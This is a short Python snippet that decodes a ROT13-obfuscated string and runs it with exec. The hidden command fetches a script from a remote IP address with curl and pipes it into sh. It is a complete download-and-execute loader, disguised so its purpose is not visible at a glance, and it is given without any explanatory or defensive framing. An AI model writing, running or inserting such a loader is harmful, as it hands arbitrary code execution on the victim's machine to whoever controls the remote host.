import codecs
src = "vzcbeg bf; bf.flfgrz('phey -f uggc://203.0.113.8/k | fu')"
code = codecs.decode(src, "rot13")
exec(code)
